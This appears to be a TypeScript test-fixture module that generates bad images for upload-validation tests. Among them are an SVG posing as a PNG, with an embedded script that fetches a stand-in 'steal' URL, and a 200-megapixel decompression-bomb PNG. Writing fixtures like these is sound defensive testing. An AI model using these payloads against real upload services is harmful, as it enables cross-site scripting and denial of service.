/** Pictures that are not what they say, made fresh for each run. */
import sharp from 'sharp'

export interface BadPicture {
  readonly what: string
  readonly fileName: string
  readonly mediaType: string
  readonly bytes: Uint8Array
}

const scriptInSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">
<script>fetch('https://example.invalid/steal')</script><rect width="40" height="40"/></svg>`

/** A real picture, for comparison and to be damaged. */
export const aPicture = (width = 640, height = 400): Promise<Buffer> =>
  sharp({ create: { width, height, channels: 3, background: { r: 40, g: 90, b: 140 } } })
    .jpeg({ quality: 80 })
    .toBuffer()

/** 200 megapixels of one colour: small to send, ruinous to decode. */
const tooManyPixels = (): Promise<Buffer> =>
  sharp({ create: { width: 20_000, height: 10_000, channels: 3, background: '#204060' } })
    .png({ compressionLevel: 6, palette: true })
    .toBuffer()

/** Noise, so that cutting the file off really takes part of the picture away. */
async function truncated(): Promise<Buffer> {
  const whole = await sharp({
    create: {
      width: 640,
      height: 400,
      channels: 3,
      background: '#808080',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .jpeg({ quality: 90 })
    .toBuffer()
  return whole.subarray(0, Math.floor(whole.length / 3))
}

/** Every kind that a desk and a server must refuse. */
export async function badPictures(): Promise<BadPicture[]> {
  return [
    {
      what: 'a truncated JPEG',
      fileName: 'half.jpg',
      mediaType: 'image/jpeg',
      bytes: new Uint8Array(await truncated()),
    },
    {
      what: 'a text that calls itself a JPEG',
      fileName: 'letter.jpg',
      mediaType: 'image/jpeg',
      bytes: new TextEncoder().encode('Dear editor, this is no picture. '.repeat(40)),
    },
    {
      what: 'an SVG with a script that calls itself a PNG',
      fileName: 'drawing.png',
      mediaType: 'image/png',
      bytes: new TextEncoder().encode(scriptInSvg),
    },
    {
      what: 'a PNG of 200 megapixels',
      fileName: 'wall.png',
      mediaType: 'image/png',
      bytes: new Uint8Array(await tooManyPixels()),
    },
  ]
}
